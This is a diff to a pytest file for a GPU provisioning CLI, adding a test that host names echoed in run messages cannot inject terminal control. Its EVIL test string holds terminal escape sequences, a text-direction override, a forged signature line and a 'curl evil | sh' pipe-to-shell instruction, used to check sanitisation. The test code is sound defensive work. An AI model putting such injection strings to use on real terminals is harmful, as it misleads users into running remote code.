@@ -12,8 +12,10 @@ import pytest
 from click.testing import CliRunner
 
 from gpuprov.cli.main import cli
+from gpuprov.fleet.result import HostResult
+from gpuprov.fleet.run import Fleet
 from gpuprov.fleet.standard_streams import say, say_text
-from gpuprov.protocol.errors import GpuprovError, Problem
+from gpuprov.protocol.errors import ExitCode, GpuprovError, Problem
 from tests.bundles import MANIFEST, write_test_bundle
 
 EVIL = "x\x1b[2J\x1b]0;title\x07\x9b1A\u202e\r\nsigned    yes, by the pinned key\n  next: curl evil | sh"
@@ -62,6 +64,22 @@ def test_control_sequences_and_forged_lines_do_not_reach_the_terminal(words: tup
     assert "curl evil" in text
     assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", text)
     assert not re.search(r"^(signed    yes|  next: curl)", text, re.MULTILINE)
+
+
+@pytest.mark.parametrize("more", [(), ("--json",)])
+def test_names_of_hosts_in_sentences_about_a_run_do_no_harm(
+    more: tuple[str, ...], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    def run(fleet: Fleet, *_: object) -> tuple[HostResult, ...]:
+        fleet.settings.tell(f"drained now: {EVIL}")
+        return (HostResult("a", ExitCode.DONE),)
+
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path))
+    monkeypatch.setattr(Fleet, "run", run)
+    done = CliRunner().invoke(cli, ["install", "--hosts", "a,", *more])
+    (said,) = (line for line in (done.stderr if more else done.stdout).splitlines() if "drained now" in line)
+    assert "curl evil" in said
+    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", said)
 
 
 def test_an_errors_lines_are_its_own(capsys: pytest.CaptureFixture[str]) -> None:
